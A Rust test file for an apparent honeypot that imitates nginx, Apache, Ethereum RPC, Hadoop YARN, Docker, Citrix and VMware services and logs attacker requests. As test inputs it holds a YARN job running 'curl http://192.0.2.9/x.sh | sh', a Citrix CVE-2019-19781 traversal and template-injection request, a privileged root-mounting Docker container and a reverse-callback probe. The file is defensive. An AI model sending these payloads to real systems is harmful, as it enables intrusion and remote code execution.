use serde_json::{Value, json};

use super::super::transcript::{Outcome, Step, Transcript};
use crate::handlers::http::ask::fields;

const APACHE: &str = "server = 'Apache/2.4.57 (Debian)'";
const NGINX: &str = "server = 'nginx/1.22.1'";

fn ask(handler: &str, settings: &str, bytes: impl AsRef<[u8]>) -> Outcome {
    Transcript::tcp(handler, settings).run(&[Step::Recv(bytes.as_ref()), Step::Wait(20_000)])
}

fn text(outcome: &Outcome) -> String {
    String::from_utf8_lossy(&outcome.sent()).into_owned()
}

/// Status, head and body of every answer; each body must be as long as its head says.
fn answers(outcome: &Outcome) -> Vec<(u16, String, String)> {
    let text = text(outcome);
    let mut rest = text.as_str();
    let mut all = Vec::new();
    while !rest.is_empty() {
        let (head, after) = rest.split_once("\r\n\r\n").unwrap();
        let status: u16 = head.split(' ').nth(1).unwrap().parse().unwrap();
        let length = head.lines().find_map(|line| line.strip_prefix("Content-Length: "));
        let length = match length {
            Some(length) => length.parse().unwrap(),
            None if head.contains("Transfer-Encoding: chunked") => after.find("0\r\n\r\n").unwrap() + 5,
            None => 0,
        };
        all.push((status, head.to_owned(), after[..length].to_owned()));
        rest = &after[length..];
    }
    all
}

fn get(handler: &str, path: &str) -> (u16, String, String) {
    let outcome = ask(handler, "", format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n"));
    answers(&outcome).remove(0)
}

fn post(path: &str, kind: &str, body: &str) -> String {
    format!("POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}", body.len())
}

fn rpc(body: &Value) -> (Value, Outcome) {
    let outcome = ask("ethereum", "", post("/", "application/json", &body.to_string()));
    let answer = serde_json::from_str(&answers(&outcome)[0].2).unwrap();
    (answer, outcome)
}

#[test]
fn a_request_is_recorded_whole_and_answered_in_the_servers_own_order() {
    let outcome = ask("http", NGINX, "GET /robots.txt?a=b HTTP/1.1\r\nHost: x\r\nUser-Agent: curl/8\r\n\r\n");
    let head = &answers(&outcome)[0].1;
    let names: Vec<&str> = head.lines().skip(1).map(|line| line.split(':').next().unwrap()).collect();
    assert_eq!(names, ["Server", "Date", "Content-Type", "Content-Length", "Last-Modified", "Connection", "Accept-Ranges"]);
    let fields = &outcome.the_event("request").fields;
    assert_eq!((&fields["method"], &fields["path"], &fields["query"]), (&"GET".into(), &"/robots.txt".into(), &"a=b".into()));
    assert_eq!(fields["headers"], json!(["Host: x", "User-Agent: curl/8"]));
    assert_eq!((&fields["family"], &fields["status"]), (&"login".into(), &200.into()));

    let outcome = ask("http", APACHE, "GET / HTTP/1.1\r\nHost: x\r\nConnection: keep-alive\r\n\r\n");
    let head = &answers(&outcome)[0].1;
    let names: Vec<&str> = head.lines().skip(1).map(|line| line.split(':').next().unwrap()).collect();
    assert_eq!(names, ["Date", "Server", "Content-Length", "Keep-Alive", "Connection", "Content-Type"]);
}

#[test]
fn requests_are_refused_as_the_genuine_servers_refuse_them() {
    for (request, nginx, apache) in [
        ("GET /nope HTTP/1.1\r\nHost: x\r\n\r\n", 404, 404),
        ("GET /nope HTTP/1.0\r\n\r\n", 404, 404),
        ("POST /nope HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\n\r\nx", 404, 404),
        ("FOO / HTTP/1.1\r\nHost: x\r\n\r\n", 405, 501),
        ("foo / HTTP/1.1\r\nHost: x\r\n\r\n", 400, 501),
        ("PUT /a HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n", 405, 405),
        ("DELETE / HTTP/1.1\r\nHost: x\r\n\r\n", 405, 405),
        ("TRACE / HTTP/1.1\r\nHost: x\r\n\r\n", 405, 405),
        ("OPTIONS / HTTP/1.1\r\nHost: x\r\n\r\n", 405, 200),
        ("OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n", 400, 200),
        ("CONNECT a:443 HTTP/1.1\r\nHost: x\r\n\r\n", 400, 405),
        ("GET / HTTP/1.1\r\n\r\n", 400, 400),
        ("GET / HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n", 400, 400),
        ("GET / HTTP/1.1\r\nHost: a/b\r\n\r\n", 400, 400),
        ("GET / HTTP/2.1\r\nHost: x\r\n\r\n", 505, 505),
        ("GET / HTTP/1337\r\nHost: x\r\n\r\n", 505, 400),
        ("GET / FOO/1.1\r\nHost: x\r\n\r\n", 400, 400),
        ("HELLO\r\n\r\n", 400, 400),
        ("\x16\x03\x01\x02\r\n\r\n", 400, 400),
        ("GET / HTTP/1.1\r\nHost: x\r\nbad header\r\n\r\n", 400, 400),
        ("GET nope HTTP/1.1\r\nHost: x\r\n\r\n", 400, 400),
        ("GET http://other/nope HTTP/1.1\r\nHost: x\r\n\r\n", 404, 404),
        ("GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n", 400, 400),
        ("GET /%00 HTTP/1.1\r\nHost: x\r\n\r\n", 400, 404),
        ("GET /%zz HTTP/1.1\r\nHost: x\r\n\r\n", 400, 400),
        ("POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999\r\n\r\n", 413, 413),
        ("POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip\r\n\r\n", 501, 400),
    ] {
        for (settings, expected) in [(NGINX, nginx), (APACHE, apache)] {
            let outcome = ask("http", settings, request);
            assert_eq!(answers(&outcome)[0].0, expected, "{settings} {request}");
            assert!(outcome.events.iter().any(|event| event.kind.starts_with("request")), "{request}");
        }
    }
    for (request, nginx, apache) in [
        (format!("GET /{} HTTP/1.1\r\nHost: x\r\n\r\n", "a".repeat(9_000)), 414, 414),
        (format!("GET / HTTP/1.1\r\nHost: x\r\nA: {}\r\n\r\n", "a".repeat(40_000)), 400, 400),
    ] {
        assert_eq!(answers(&ask("http", NGINX, &request))[0].0, nginx);
        assert_eq!(answers(&ask("http", APACHE, &request))[0].0, apache);
    }
}

#[test]
fn error_pages_have_the_genuine_bodies() {
    let nginx = ask("http", NGINX, "GET /nope HTTP/1.1\r\nHost: x\r\n\r\n");
    assert_eq!(answers(&nginx)[0].2.len(), 153);
    let apache = ask("http", "server = 'Apache/2.4.71 (Debian)'", "GET /nope HTTP/1.1\r\nHost: x\r\n\r\n");
    assert_eq!(answers(&apache)[0].2.len(), 303);
    assert!(answers(&apache)[0].2.contains("<address>Apache/2.4.71 (Debian) Server at x Port 80</address>"));
}

#[test]
fn head_has_the_length_of_get_and_no_body() {
    let head = text(&ask("http", NGINX, "HEAD / HTTP/1.1\r\nHost: x\r\n\r\n"));
    let get = ask("http", NGINX, "GET / HTTP/1.1\r\nHost: x\r\n\r\n");
    assert_eq!(head.trim_end(), answers(&get)[0].1);
}

#[test]
fn pipelined_chunked_and_expecting_requests_are_all_answered() {
    let outcome = ask("http", NGINX, "GET /1 HTTP/1.1\r\nHost: x\r\n\r\nPOST /2 HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
    let statuses: Vec<u16> = answers(&outcome).iter().map(|answer| answer.0).collect();
    assert_eq!(statuses, [404, 404, 200]);
    assert!(outcome.closed);
    let expecting = ask("http", NGINX, "POST /u HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nExpect: 100-continue\r\n\r\nhi");
    assert!(text(&expecting).starts_with("HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 404 "));
}

#[test]
fn http_1_0_closes_unless_asked_to_stay() {
    assert!(ask("http", NGINX, "GET / HTTP/1.0\r\n\r\n").closed);
    let stays = Transcript::tcp("http", NGINX).run(&[Step::Recv(b"GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n")]);
    assert!(!stays.closed && text(&stays).contains("\r\nConnection: keep-alive\r\n"));
}

#[test]
fn large_bodies_and_uploads_are_stored() {
    let long = ask("http", NGINX, post("/cgi-bin/x", "text/plain", &"a".repeat(10_000)));
    let fields = &long.the_event("request").fields;
    assert_eq!((&fields["bytes"], &fields["truncated"]), (&10_000.into(), &true.into()));
    assert_eq!(long.the_event("download").fields["payload_hash"], fields["payload_hash"]);
    let upload = ask("http", NGINX, "PUT /shell.jsp HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\n<%x%>");
    assert_eq!(upload.the_event("download").fields["name"], "/shell.jsp");
    let cut = ask("http", "max_body_kib = 1", post("/x", "text/plain", &"a".repeat(5_000)));
    assert_eq!(cut.the_event("download").fields["bytes"], 1_024);
}

#[test]
fn bytes_that_are_no_text_are_kept() {
    let outcome = ask("http", NGINX, b"GET / HTTP/1.1\r\nHost: x\r\nA: \xff\xfe\r\n\r\n");
    assert!(outcome.the_event("request").fields["head_hex"].as_str().unwrap().contains("fffe"));
}

#[test]
fn a_visitor_that_sends_nothing_or_half_a_request_still_makes_an_event() {
    Transcript::tcp("http", "").run(&[Step::Wait(61_000)]).the_event("connect");
    let half = Transcript::tcp("http", "").run(&[Step::Recv(b"GET / HTTP/1.1\r\nHos"), Step::Eof]);
    half.the_event("request_malformed");
    let half = Transcript::tcp("http", "").run(&[Step::Recv(b"POST /x HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\nabc"), Step::Eof]);
    assert_eq!(half.the_event("request").fields["incomplete"], true);
}

#[test]
fn the_login_page_takes_credentials_and_lets_in_what_the_policy_says() {
    let form = post("/login", "application/x-www-form-urlencoded", "username=admin&password=p%40ss");
    let refused = ask("http", "credentials = 'reject-all'", &form);
    assert_eq!(answers(&refused)[0].0, 200);
    assert!(answers(&refused)[0].2.contains("Invalid username or password"));
    let event = refused.the_event("login");
    assert_eq!((&event.fields["username"], &event.fields["password"]), (&"admin".into(), &"p@ss".into()));
    let accepted = ask("http", "credentials = 'accept-all'", &form);
    let (status, head, _) = answers(&accepted).remove(0);
    assert_eq!(status, 302);
    let cookie = head.lines().find_map(|line| line.strip_prefix("Set-Cookie: ")).unwrap().split(';').next().unwrap();
    let inside = ask("http", "", format!("GET /dashboard HTTP/1.1\r\nHost: x\r\nCookie: {cookie}\r\n\r\n"));
    assert_eq!(answers(&inside)[0].0, 200);
    assert_eq!(get("http", "/dashboard").0, 302);
}

#[test]
fn basic_credentials_are_recorded_wherever_they_come() {
    let request = |path| format!("GET {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Basic YWRtaW46eA==\r\n\r\n");
    for (path, status) in [("/admin/", 401), ("/manager/html", 404), ("/ws/v1/cluster", 200)] {
        let outcome = ask("http", "credentials = 'reject-all'", request(path));
        assert_eq!(answers(&outcome)[0].0, status, "{path}");
        assert_eq!(outcome.the_event("login").fields["username"], "admin");
    }
    assert_eq!(answers(&ask("http", "credentials = 'accept-all'", request("/admin/")))[0].0, 200);
}

#[test]
fn families_are_told_by_path_and_body_on_any_port() {
    let json = |method: &str| post("/", "application/json", &json!({"jsonrpc": "2.0", "id": 1, "method": method, "params": []}).to_string());
    for (request, family) in [
        ("GET / HTTP/1.1\r\nHost: x\r\n\r\n".to_owned(), "login"),
        (json("eth_blockNumber"), "ethereum"),
        ("GET /ws/v1/cluster/info HTTP/1.1\r\nHost: x\r\n\r\n".to_owned(), "hadoop"),
        ("POST /ws/v1/cluster/apps/new-application HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n".to_owned(), "hadoop"),
        ("GET /v1.16/version HTTP/1.1\r\nHost: x\r\n\r\n".to_owned(), "docker"),
        ("GET /containers/json HTTP/1.1\r\nHost: x\r\n\r\n".to_owned(), "docker"),
        ("GET /vpn/../vpns/cfg/smb.conf HTTP/1.1\r\nHost: x\r\n\r\n".to_owned(), "citrix"),
        ("POST /hyper/send HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n".to_owned(), "vmware"),
        ("GET /sdk HTTP/1.1\r\nHost: x\r\n\r\n".to_owned(), "vmware"),
        ("GET /wallet.dat HTTP/1.1\r\nHost: x\r\n\r\n".to_owned(), "wallet"),
    ] {
        let outcome = ask("http", "", &request);
        assert_eq!(outcome.the_event("request").fields["family"], family, "{request}");
        assert_eq!(answers(&outcome)[0].0, 200, "{request}");
    }
}

#[test]
fn json_rpc_ids_come_back_with_their_type_and_batches_in_order() {
    let (answer, _) = rpc(&json!([
        {"jsonrpc": "2.0", "id": "a", "method": "net_version"},
        {"jsonrpc": "2.0", "id": 7, "method": "eth_chainId"},
        {"jsonrpc": "2.0", "id": null, "method": "eth_nope", "params": []},
        {"jsonrpc": "2.0", "method": "eth_chainId"},
    ]));
    assert_eq!(answer[0], json!({"jsonrpc": "2.0", "id": "a", "result": "1"}));
    assert_eq!(answer[1]["id"], 7);
    assert_eq!(answer[2]["error"], json!({"code": -32601, "message": "the method eth_nope does not exist/is not available"}));
    assert_eq!(answer.as_array().unwrap().len(), 3, "a notification has no answer");
}

#[test]
fn the_chain_advances_every_twelve_seconds() {
    let ask = post("/", "application/json", &json!({"jsonrpc": "2.0", "id": 1, "method": "eth_blockNumber"}).to_string());
    let steps = [Step::Recv(ask.as_bytes()), Step::Wait(50_000), Step::Recv(ask.as_bytes())];
    let outcome = Transcript::tcp("ethereum", "").run(&steps);
    let numbers: Vec<u64> = answers(&outcome)
        .iter()
        .map(|answer| serde_json::from_str::<Value>(&answer.2).unwrap()["result"].as_str().unwrap()[2..].to_owned())
        .map(|digits| u64::from_str_radix(&digits, 16).unwrap())
        .collect();
    assert!((3..=5).contains(&(numbers[1] - numbers[0])), "{numbers:?}");
    let (block, _) = rpc(&json!({"jsonrpc": "2.0", "id": 1, "method": "eth_getBlockByNumber", "params": ["0x1000000", false]}));
    let (parent, _) = rpc(&json!({"jsonrpc": "2.0", "id": 1, "method": "eth_getBlockByNumber", "params": ["0xffffff", true]}));
    assert_eq!(block["result"]["parentHash"], parent["result"]["hash"]);
}

#[test]
fn what_would_move_money_is_recorded() {
    let (accounts, _) = rpc(&json!({"jsonrpc": "2.0", "id": 1, "method": "eth_accounts"}));
    let account = accounts["result"][0].as_str().unwrap();
    let (answer, outcome) = rpc(&json!({"jsonrpc": "2.0", "id": 1, "method": "personal_unlockAccount", "params": [account, "hunter2", 600]}));
    assert_eq!(answer["error"]["message"], "could not decrypt key with given password");
    assert_eq!(outcome.the_event("login").fields["password"], "hunter2");
    let (answer, outcome) = rpc(&json!({"jsonrpc": "2.0", "id": 1, "method": "eth_sendTransaction", "params": [{"from": account, "to": "0x00", "value": "0x1"}]}));
    assert_eq!(answer["error"]["message"], "authentication needed: password or unlock");
    assert!(outcome.the_event("command").fields["command"].as_str().unwrap().contains("\"value\":\"0x1\""));
    assert_eq!(outcome.the_event("request").fields["decoded"]["calls"][0]["method"], "eth_sendTransaction");
}

#[test]
fn yarn_takes_an_application_and_shows_it_afterwards() {
    let new = "POST /ws/v1/cluster/apps/new-application HTTP/1.1\r\nHost: rm:8088\r\nContent-Length: 0\r\n\r\n";
    let first = ask("hadoop", "", new.repeat(2));
    let ids: Vec<Value> = answers(&first).iter().map(|answer| serde_json::from_str::<Value>(&answer.2).unwrap()["application-id"].clone()).collect();
    assert!(ids[0].as_str().unwrap() < ids[1].as_str().unwrap(), "{ids:?}");
    let id = ids[0].as_str().unwrap();
    let submit = post("/ws/v1/cluster/apps", "application/json", &json!({"application-id": id, "application-name": "get-shell",
        "am-container-spec": {"commands": {"command": "curl http://192.0.2.9/x.sh | sh"}}, "application-type": "YARN"}).to_string());
    let show = format!("GET /ws/v1/cluster/apps/{id} HTTP/1.1\r\nHost: x\r\n\r\n");
    let steps = [Step::Recv(submit.as_bytes()), Step::Recv(show.as_bytes()), Step::Wait(10_000), Step::Recv(show.as_bytes()), Step::Wait(49_000), Step::Recv(show.as_bytes())];
    let outcome = Transcript::tcp("hadoop", "").run(&steps);
    let all = answers(&outcome);
    assert_eq!(all[0].0, 202);
    assert!(all[0].1.contains(&format!("Location: http://x/ws/v1/cluster/apps/{id}")));
    let states: Vec<String> = all[1..].iter().map(|answer| serde_json::from_str::<Value>(&answer.2).unwrap()["app"]["state"].as_str().unwrap().to_owned()).collect();
    assert_eq!(states, ["ACCEPTED", "RUNNING", "FINISHED"]);
    assert_eq!(outcome.the_event("command").fields["command"], "curl http://192.0.2.9/x.sh | sh");
}

#[test]
fn yarn_tells_what_it_is_and_what_it_does_not_have() {
    let (status, head, body) = get("hadoop", "/ws/v1/cluster/info");
    assert!(status == 200 && head.contains("Server: Jetty(6.1.26)"));
    assert_eq!(serde_json::from_str::<Value>(&body).unwrap()["clusterInfo"]["state"], "STARTED");
    assert!(get("hadoop", "/cluster/cluster").2.contains("ResourceManager state:"));
    assert_eq!(get("hadoop", "/nope").0, 404);
    assert!(get("hadoop", "/ws/v1/cluster/apps/application_1_0001").2.contains("NotFoundException"));
}

#[test]
fn citrix_gives_the_file_that_scanners_look_for_by_every_path() {
    for path in ["/vpn/../vpns/cfg/smb.conf", "/vpns/cfg/smb.conf", "/vpn/%2e%2e/vpns/cfg/smb.conf"] {
        let outcome = ask("http", "", format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n"));
        let (status, _, body) = answers(&outcome).remove(0);
        assert!(status == 200 && body.contains("[global]") && body.contains("lmhosts"), "{path}");
        assert_eq!(outcome.the_event("request").fields["decoded"]["vulnerability"], "CVE-2019-19781");
    }
    let exploit = "POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1\r\nHost: x\r\nNSC_USER: ../../../netscaler/portal/templates/a\r\nNSC_NONCE: b\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 61\r\n\r\nurl=http://x&title=[%25+template.new('BLOCK'%3d'print+`id`')%25]&desc=d";
    let exploit = exploit.replace("Content-Length: 61", &format!("Content-Length: {}", exploit.split("\r\n\r\n").nth(1).unwrap().len()));
    let outcome = ask("http", "", exploit);
    assert_eq!(outcome.the_event("request").fields["decoded"]["nsc_user"], "../../../netscaler/portal/templates/a");
    assert!(outcome.the_event("command").fields["command"].as_str().unwrap().contains("print `id`"));
    assert_eq!(answers(&ask("http", "site = 'citrix'", "GET / HTTP/1.1\r\nHost: x\r\n\r\n"))[0].0, 302);
}

#[test]
fn vmware_probes_are_recorded_and_never_dialled() {
    let body = "a b c d e f g h i 192.0.2.9 4444 k";
    let outcome = ask("http", "", post("/hyper/send", "text/plain", body));
    assert_eq!(outcome.the_event("request").fields["decoded"]["callback"], "192.0.2.9:4444");
    let soap = "<soap:Envelope><soap:Body><RetrieveServiceContent xmlns=\"urn:internalvim25\"><_this xsi:type=\"x\">ServiceInstance</_this></RetrieveServiceContent></soap:Body></soap:Envelope>";
    let outcome = ask("http", "", post("/sdk", "text/xml", soap));
    assert!(answers(&outcome)[0].2.contains("<name>VMware ESX</name>"));
    assert_eq!(outcome.the_event("request").fields["decoded"]["soap_method"], "RetrieveServiceContent");
}

#[test]
fn the_docker_engine_says_what_it_is() {
    let (status, head, body) = get("docker", "/_ping");
    assert_eq!((status, body.as_str()), (200, "OK"));
    assert!(head.contains("Api-Version: 1.41\r\n") && head.contains("\r\nServer: Docker/20.10."));
    let version: Value = serde_json::from_str(&get("docker", "/v1.41/version").2).unwrap();
    let info: Value = serde_json::from_str(&get("docker", "/info").2).unwrap();
    assert_eq!(version["Version"], info["ServerVersion"]);
    assert_eq!(get("docker", "/nope").2, "{\"message\":\"page not found\"}\n");
    assert!(get("docker", "/v1.99/version").2.contains("client version 1.99 is too new"));
    let list: Value = serde_json::from_str(&get("docker", "/containers/json").2).unwrap();
    assert_eq!(list.as_array().unwrap().len(), 1);
}

#[test]
fn a_container_is_created_started_and_seen_to_end() {
    let create = post("/v1.41/containers/create?name=miner", "application/json", &json!({"Image": "busybox", "Cmd": ["sh", "-c", "echo hello; sleep 3"],
        "HostConfig": {"Binds": ["/:/mnt"], "Privileged": true}}).to_string());
    let pull = "POST /v1.41/images/create?fromImage=busybox&tag=latest HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n";
    let start = "POST /v1.41/containers/miner/start HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n";
    let wait = "POST /v1.41/containers/miner/wait HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n";
    let logs = "GET /v1.41/containers/miner/logs?stdout=1 HTTP/1.1\r\nHost: x\r\n\r\n";
    let outcome = Transcript::tcp("docker", "").run(&[
        Step::Recv(create.as_bytes()), Step::Recv(pull.as_bytes()), Step::Wait(5_000), Step::Recv(create.as_bytes()),
        Step::Recv(start.as_bytes()), Step::Recv(wait.as_bytes()), Step::Wait(6_000), Step::Recv(logs.as_bytes()),
    ]);
    let all = answers(&outcome);
    let statuses: Vec<u16> = all.iter().map(|answer| answer.0).collect();
    assert_eq!(statuses, [404, 200, 201, 204, 200, 200]);
    assert!(all[1].2.contains("Downloaded newer image for busybox:latest"));
    assert!(all[4].2.contains("\"StatusCode\":0"));
    assert!(all[5].2.ends_with("\x06hello\n"), "{:?}", all[5].2);
    let made = &outcome.events.iter().filter(|event| event.kind == "request").nth(2).unwrap().fields["decoded"]["container"];
    assert_eq!((&made["binds"], &made["privileged"]), (&json!(["/:/mnt"]), &json!(true)));
    assert!(outcome.events.iter().any(|event| event.kind == "command" && event.fields["command"] == "sh -c echo hello; sleep 3"));
}

#[test]
fn a_terminal_in_a_container_takes_commands_however_they_are_cut() {
    let list = get("docker", "/containers/json").2;
    let id = serde_json::from_str::<Value>(&list).unwrap()[0]["Names"][0].as_str().unwrap().trim_start_matches('/').to_owned();
    let exec = post(&format!("/v1.41/containers/{id}/exec"), "application/json", &json!({"Cmd": ["sh"], "Tty": true, "AttachStdin": true}).to_string());
    let created = Transcript::tcp("docker", "").run(&[Step::Recv(exec.as_bytes())]);
    let id = serde_json::from_str::<Value>(&answers(&created)[0].2).unwrap()["Id"].as_str().unwrap().to_owned();
    let start = format!("POST /v1.41/exec/{id}/start HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: tcp\r\nContent-Type: application/json\r\nContent-Length: 27\r\n\r\n{{\"Detach\":false,\"Tty\":true}}");
    let steps = [Step::Recv(exec.as_bytes()), Step::Recv(start.as_bytes()), Step::Wait(100), Step::Recv(b"id\rexit\r")];
    let outcome = Transcript::tcp("docker", "").run(&steps);
    let sent = text(&outcome);
    assert!(sent.contains("HTTP/1.1 101 UPGRADED\r\nContent-Type: application/vnd.docker.raw-stream\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\n/ # id\r\nuid=0(root)"), "{sent}");
    assert!(outcome.closed);
    assert!(outcome.events.iter().any(|event| event.kind == "command" && event.fields["command"] == "id"));
}

#[test]
fn forms_have_an_end() {
    assert_eq!(fields(&"a=b&".repeat(10_000)).count(), 256);
}

#[test]
fn deeply_nested_or_endless_json_is_an_answer_and_no_panic() {
    let deep = "[".repeat(100_000);
    let outcome = ask("ethereum", "", post("/", "application/json", &deep));
    assert!(answers(&outcome)[0].2.contains("-32700"));
    let outcome = ask("docker", "", post("/containers/create", "application/json", &deep));
    assert_eq!(answers(&outcome)[0].0, 400);
}
